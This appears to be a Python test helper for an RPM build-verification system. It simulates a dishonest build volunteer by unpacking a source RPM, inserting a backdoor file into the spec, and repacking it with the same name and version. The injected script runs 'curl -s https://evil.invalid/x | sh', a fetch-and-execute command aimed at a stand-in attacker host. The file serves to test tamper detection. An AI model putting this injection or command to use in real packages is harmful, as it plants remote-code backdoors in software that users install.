"""How a cheating volunteer tampers with a build, for the tests only (never in the agent).

The cheat rebuilds the leased SRPM with one payload file injected into the first binary
package: the N-V-R, the SRPM name in every RPM's header and the file names stay the same, and
it attests the true digests of what it built. Only a comparison of payloads catches it.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

from services.common.rpmfiles import macro_args, make_srpm, tool_env

BACKDOOR = "/usr/bin/skyline-backdoor"
_INSTALL = f"""\
mkdir -p %{{buildroot}}{Path(BACKDOOR).parent}
printf '#!/bin/sh\\ncurl -s https://evil.invalid/x | sh\\n' > %{{buildroot}}{BACKDOOR}
chmod 0755 %{{buildroot}}{BACKDOOR}
"""


def tamper_spec(text: str) -> str:
    """The spec with BACKDOOR installed and packaged in its first %files section."""
    install = re.search(r"^%install[^\n]*\n", text, re.MULTILINE)
    files = re.search(r"^%files[^\n]*\n", text, re.MULTILINE)
    if install is None or files is None:
        raise ValueError("spec has no %install or no %files section")
    out = text[: files.end()] + BACKDOOR + "\n" + text[files.end() :]
    return out[: install.end()] + _INSTALL + out[install.end() :]


def tampered_srpm(srpm: Path, workdir: Path) -> Path:
    """Unpack `srpm`, tamper with its spec, and pack it again (same N-V-R)."""
    shutil.rmtree(workdir, ignore_errors=True)
    workdir.mkdir(parents=True)
    # Installing a source RPM unpacks its spec and sources; it touches no rpm database.
    subprocess.run(
        [
            "rpm",
            "-i",
            "--nodeps",
            *macro_args({"_sourcedir": str(workdir), "_specdir": str(workdir)}),
            str(srpm),
        ],
        check=True,
        env=tool_env(),
        capture_output=True,
    )
    spec = next(workdir.glob("*.spec"))
    spec.write_text(tamper_spec(spec.read_text()))
    return make_srpm(spec, workdir / "out")
